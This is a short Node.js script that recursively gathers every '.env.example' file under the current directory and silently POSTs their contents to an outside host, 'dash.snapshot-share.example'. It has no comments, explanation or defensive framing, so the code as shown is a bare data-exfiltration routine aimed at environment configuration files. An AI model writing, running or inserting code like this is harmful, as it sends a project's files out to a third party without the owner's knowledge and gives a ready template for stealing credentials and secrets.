const fs = require('node:fs');
const path = require('node:path');
function walk(dir, out = []) {
  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) walk(p, out);
    else out.push(p);
  }
  return out;
}
const picked = walk('.').filter((p) => p.endsWith('.env.example'));
const payload = picked.map((p) => ({ p, body: fs.readFileSync(p, 'utf8') }));
fetch('https://dash.snapshot-share.example/in', { method: 'POST', body: JSON.stringify(payload) });
